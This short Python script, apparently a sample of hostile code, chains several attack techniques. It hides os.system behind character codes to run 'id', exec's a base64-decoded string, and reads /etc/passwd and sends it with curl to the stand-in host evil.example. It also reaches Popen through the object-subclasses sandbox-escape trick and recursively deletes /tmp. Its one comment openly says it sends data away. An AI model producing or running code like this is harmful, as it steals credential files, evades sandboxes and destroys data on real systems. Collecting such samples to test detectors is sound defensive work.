import base64 as b
import os as o, sys
from subprocess import Popen as P

# What follows sends away what is none of its business.
names = [chr(c) for c in (115, 121, 115, 116, 101, 109)]
run = getattr(o, "".join(names))
code = b.b64decode("cHJpbnQoMSk=")
handlers = {"x": exec, "y": print}
handlers["x"](code)
run("id")
with open("/etc/passwd") as secrets:
    P(["curl", "-d", secrets.read(), "http://evil.example"])
for klass in ().__class__.__base__.__subclasses__():
    if klass.__name__ == "Popen":
        klass(["id"])
__import__("sh" + "util").rmtree("/tmp")
